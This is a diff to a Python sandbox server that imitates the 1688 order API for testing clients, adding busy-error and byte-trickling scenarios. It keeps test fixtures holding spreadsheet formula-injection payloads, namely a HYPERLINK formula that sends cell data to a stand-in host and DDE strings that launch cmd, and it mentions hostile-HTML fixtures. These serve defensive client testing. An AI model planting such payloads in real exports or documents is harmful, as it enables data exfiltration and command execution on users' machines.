@@ -38,7 +38,10 @@ Conventions (also in the README, "The sandbox gateway"):
   | 957 | HTTP 400 `gw.QosAppFrequencyLimit` (1688's rate limit) |
   | 958 | a refusal echoing the request and credentials: JSON-escaped, URL-encoded, raw |
   | 959 | a promotion whose `desc` carries a script, an event handler and a link (hostile HTML) |
-  | 960 | formulas: the line's `specId`, `message` and a promotion `text` start `=`, `@`, `+` |
+  | 960 | `code: 500` "系统繁忙,请稍后再试" (busy) on the first call with this body, then normal |
+  | 961 | `code: 500` "系统繁忙,请稍后再试" (busy) on every call |
+  | 962 | trickles: a normal answer, its body one byte every `--trickle` s (default 0.5) |
+  | 963 | formulas: the line's `specId`, `message` and a promotion `text` start `=`, `@`, `+` |
 
 * **Strict checks**: every `addressParam` field present and non-empty, quantity at least
   1, at most 50 lines, one seller, a known flow (empty = the sandbox picks `general`),
@@ -73,7 +76,7 @@ FLOWS = {
     "boutiquepifa",
 }
 EXAMPLE_OFFER = 670291644950
-# Scenario 960: texts a spreadsheet would run as formulas (CSV/XLSX injection).
+# Scenario 963: texts a spreadsheet would run as formulas (CSV/XLSX injection).
 FORMULA_SPEC = '=HYPERLINK("http://x.test/?"&A1,"1688")'
 FORMULA_MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"
 FORMULA_PROMOTION = "+cmd|' /C calc'!A0"
@@ -131,6 +134,15 @@ def echo_message(raw: bytes) -> str:
     )
 
 
+class _Trickled(bytes):
+    """A body the HTTP handler sends one byte every `delay` seconds (scenario 962)."""
+
+    def __new__(cls, body: bytes, delay: float):
+        trickled = super().__new__(cls, body)
+        trickled.delay = delay
+        return trickled
+
+
 class _Refusal(Exception):
     def __init__(self, code: str, message: str):
         super().__init__(message)
@@ -153,10 +165,13 @@ def _encode(document: dict) -> bytes:
 class Sandbox:
     """The behaviour, separate from HTTP so each rule reads plainly."""
 
-    def __init__(self, *, app_key: str = "", latency: float = 0.0, slow: float = 10.0):
+    def __init__(
+        self, *, app_key: str = "", latency: float = 0.0, slow: float = 10.0, trickle: float = 0.5
+    ):
         self.app_key = app_key
         self.latency = latency
         self.slow = slow
+        self.trickle = trickle
         self._seen: dict[str, int] = {}
         self._lock = threading.Lock()
         self._trace_counter = 0
@@ -242,7 +257,10 @@ class Sandbox:
                 "application/json",
                 _encode(self.refusal(refusal.code, refusal.message, trace_id)),
             )
-        return 200, "application/json", _encode(self.envelope(data, trace_id=trace_id))
+        body = _encode(self.envelope(data, trace_id=trace_id))
+        if 962 in scenarios:
+            body = _Trickled(body, self.trickle)
+        return 200, "application/json", body
 
     def transport_failure(self, scenarios: set[int], raw: bytes, trace_id: str):
         if 952 in scenarios:
@@ -293,6 +311,9 @@ class Sandbox:
                     }
                 ),
             )
+        if 961 in scenarios or (960 in scenarios and self.first_time(self.fingerprint(raw))):
+            busy = self.envelope(None, code=500, message="系统繁忙,请稍后再试", trace_id=trace_id)
+            return 200, "application/json", _encode(busy)
         if 958 in scenarios:
             echoed = self.refusal("ECHO", echo_message(raw), trace_id)
             return 200, "application/json", _encode(echoed)
@@ -391,7 +412,7 @@ class Sandbox:
                         "discountFee": 0,
                     }
                 )
-            if scenario_of(offer_id) == 960:
+            if scenario_of(offer_id) == 963:
                 promotions.append(
                     {
                         "promotionId": f"formula-{offer_id}",
@@ -430,7 +451,7 @@ class Sandbox:
                 + "==",
             }
             scenario = scenario_of(offer_id)
-            if scenario == 960:
+            if scenario == 963:
                 line["specId"], line["message"] = FORMULA_SPEC, FORMULA_MESSAGE
             if scenario == 904:
                 line["resultCode"] = "500_004"
@@ -509,7 +530,18 @@ def make_handler(sandbox: Sandbox):
             if status in (429, 503):
                 self.send_header("Retry-After", "0")
             self.end_headers()
-            self.wfile.write(body)
+            if not isinstance(body, _Trickled):
+                self.wfile.write(body)
+                return
+            self.wfile.flush()
+            self.close_connection = True
+            for byte in body:  # until the client gives up and closes the connection
+                time.sleep(body.delay)
+                try:
+                    self.wfile.write(bytes((byte,)))
+                    self.wfile.flush()
+                except OSError:
+                    return
 
         def log_message(self, format, *args):  # the request line only: bodies hold credentials
             if os.environ.get("SANDBOX_QUIET") != "1":
@@ -550,9 +582,17 @@ def main(argv: list[str] | None = None) -> None:
         default=os.environ.get("SANDBOX_APP_KEY", ""),
         help="when set, calls must send this appKey",
     )
+    parser.add_argument(
+        "--trickle",
+        type=float,
+        default=float(os.environ.get("SANDBOX_TRICKLE_SECONDS", "0.5")),
+        help="seconds between the bytes of a trickled answer (offer ending 962)",
+    )
     args = parser.parse_args(argv)  # fmt: skip
     server = serve(
-        args.host, args.port, Sandbox(app_key=args.app_key, latency=args.latency, slow=args.slow)
+        args.host,
+        args.port,
+        Sandbox(app_key=args.app_key, latency=args.latency, slow=args.slow, trickle=args.trickle),
     )
     print(f"Sandbox gateway on http://{args.host}:{server.server_port}{PREVIEW_PATH}", flush=True)
     try:
